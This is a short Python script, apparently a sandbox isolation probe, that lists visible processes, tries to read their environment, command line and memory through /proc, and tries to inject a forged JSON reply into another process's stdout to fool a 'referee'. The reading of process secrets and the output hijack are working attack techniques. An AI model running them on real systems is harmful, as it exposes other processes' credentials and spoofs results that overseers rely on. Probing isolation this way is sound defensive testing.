"""Reads every other process's environment, command line and memory it can see, and the
referee's by its host pid; tries to write into another process's stdout pipe."""

import os

from _attack import TARGETS, read, run, say, tried


def attack() -> None:
    me = os.getpid()
    visible = sorted(int(name) for name in os.listdir("/proc") if name.isdigit())
    say(f"visible pids {visible} (me {me})")
    for pid in [*TARGETS.get("pids", []), *(p for p in visible if p != me)]:
        for part in ("environ", "cmdline", "mem", "maps"):
            tried(f"read /proc/{pid}/{part}", lambda pid=pid, part=part: read(f"/proc/{pid}/{part}"))

        def hijack(pid: int = pid) -> None:
            with open(f"/proc/{pid}/fd/1", "wb") as handle:
                handle.write(b'{"type": "reply", "id": 1, "choice": 0}\n')

        if pid in TARGETS.get("pids", []) or pid > 2:
            tried(f"write /proc/{pid}/fd/1", hijack)


run(attack, "proc_spy")
